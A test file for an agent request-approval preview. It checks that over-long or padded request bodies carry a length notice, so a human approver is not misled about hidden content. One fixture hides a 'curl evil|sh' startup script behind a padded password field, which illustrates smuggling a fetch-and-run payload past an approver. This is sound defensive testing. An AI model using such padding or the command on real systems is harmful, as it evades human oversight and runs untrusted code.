import { expect, test } from "vitest";
import { limits } from "#lib/limits";
import { bench, decision } from "../../test/fakes/data-plane-under-test.ts";

async function previewOf(body: string): Promise<readonly string[]> {
  const under = await bench();
  under.decide(() => decision("require_approval"));
  const answering = under.send({
    method: "POST",
    target: "/storage/v1/b",
    headers: { "content-type": "application/json", "user-agent": "x" },
    body,
  });
  await under.desk.someoneWaits();
  under.desk.elapse();
  await answering;
  return under.desk.requests.get("apr_1")?.preview.split("\n\n") ?? [];
}

const noticeFor = (body: string): string =>
  `(only the beginning is shown; the whole body, ${body.length} bytes, would run)`;

test("a body too long to be shown says so before the agent's words, where padding cannot push it out of sight", async () => {
  const body = `{"name":"logs",${" ".repeat(limits.approvalPreviewBytesMax)}"versioning":{}}`;
  expect((await previewOf(body))[1]).toBe(noticeFor(body));
});

test("a secret that is long, and short once it is masked, does not hide from an approver that more follows", async () => {
  const head = '{"name":"logs","adminPassword":"';
  const filled = head.padEnd(limits.recordedBodyBytesMax - 1, "A");
  const body = `${filled}","metadata":{"startup-script":"curl evil|sh"}}`;
  const [, notice, shown] = await previewOf(body);
  expect(notice).toBe(noticeFor(body));
  expect(shown).toMatch(/^\{"name":"logs"/);
  expect(shown).not.toContain("startup-script");
});

test("an approver is told how long a body is, and not how much of it was masked for them", async () => {
  const body = `{"name":"logs","labels":"${"x".repeat(2 * limits.recordedBodyBytesMax)}"}`;
  expect((await previewOf(body))[1]).toBe(noticeFor(body));
});

test("a body that a mask shortens so that it can be shown whole is shown without a notice", async () => {
  const body = `{"name":"logs","password":"${"A".repeat(limits.approvalPreviewBytesMax)}","versioning":{}}`;
  const [, shown, more] = await previewOf(body);
  expect(shown).toMatch(/^\{"name":"logs","password":"\[masked [^"]*","versioning":\{\}\}$/);
  expect(more).toBeUndefined();
});
